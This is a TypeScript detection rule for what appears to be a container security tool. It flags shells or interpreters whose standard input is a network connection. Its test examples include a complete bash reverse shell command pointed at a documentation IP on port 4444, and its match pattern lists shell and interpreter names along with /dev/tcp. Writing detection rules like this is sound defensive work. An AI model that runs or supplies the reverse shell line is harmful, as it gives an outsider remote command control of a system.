/** A shell or an interpreter whose standard input is a network connection. */
import { defineDetection } from "@plimsoll/core";

export const reverseShell = defineDetection({
  id: "reverse-shell",
  title: "A shell talks to somebody over the network",
  severity: "critical",
  why: "Its standard input is a connection: whoever is at the other end types commands into the container.",
  techniques: ["T1059.004", "T1071"],
  equivalents: [
    "falco: Redirect STDOUT/STDIN to Network Connection in Container",
    "falco: Reverse Shell from Web Server",
  ],
  closedBy: ["default-deny-egress"],
  kinds: ["exec"],
  when: "(has(detail.networkInput) && (name in ['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'fish', 'csh', 'tcsh'] || name.matches('^(python|perl|ruby|node|lua|php)[0-9.]*$'))) || line.contains('/dev/tcp/') || line.contains('/dev/udp/')",
  examples: {
    present: [
      {
        shows: ["falco: Redirect STDOUT/STDIN to Network Connection in Container"],
        detail: { kind: "exec", path: "/bin/bash", args: ["bash", "-i"], networkInput: true },
      },
      {
        detail: {
          kind: "exec",
          path: "/bin/bash",
          args: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        },
      },
      {
        detail: {
          kind: "exec",
          path: "/usr/bin/python3.11",
          args: ["python3", "-c", "…"],
          networkInput: true,
        },
      },
    ],
    absent: [
      { detail: { kind: "exec", path: "/bin/bash", args: ["bash", "-i"] } },
      { detail: { kind: "exec", path: "/usr/sbin/sshd", args: ["sshd"], networkInput: true } },
    ],
  },
});
